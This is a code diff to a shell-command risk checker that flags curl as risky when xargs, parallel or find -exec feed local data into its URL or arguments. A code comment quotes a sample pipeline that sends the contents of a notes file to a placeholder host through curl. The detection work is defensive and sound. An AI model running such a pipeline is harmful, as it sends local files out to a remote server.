@@ -162,6 +162,8 @@ function curlCapabilities(part: CommandPart, j: PathJudge, operands: Arg[]): Ver
 export function curl(part: CommandPart, j: PathJudge): Verdict {
   const { opts, values, operands } = splitArgs(part.argv, CURL_VALUE_OPTS);
   const verdicts: Verdict[] = curlCapabilities(part, j, operands);
+  // `cat notes | xargs -I{} curl https://x/{}`: what goes out is only known at run time.
+  if (part.extraArgs) verdicts.push(risky('sends data it is given at run time over the network'));
   const out = values.get('-o') ?? values.get('--output');
   if (out) verdicts.push(j.write(out, 'downloads to'));
   if (hasFlag(opts, 'O', '--remote-name', '--remote-name-all')) {
@@ -191,7 +193,11 @@ export function curl(part: CommandPart, j: PathJudge): Verdict {
     verdicts.push(v ?? notUnderstood(`sends data to a server (curl -X ${verb ?? 'POST'})`));
   }
   for (const url of [...operands, ...(values.has('--url') ? [values.get('--url')!] : [])]) {
-    if (url.value === undefined && (url.unknown === '$(...)' || part.subPrograms.length > 0)) {
+    const filled = part.via.some((v) => /xargs|parallel|find -exec|fd --exec/.test(v));
+    if (
+      url.value === undefined &&
+      (url.unknown === '$(...)' || part.subPrograms.length > 0 || filled)
+    ) {
       verdicts.push(risky('sends local data over the network (command output in the URL)'));
     }
   }
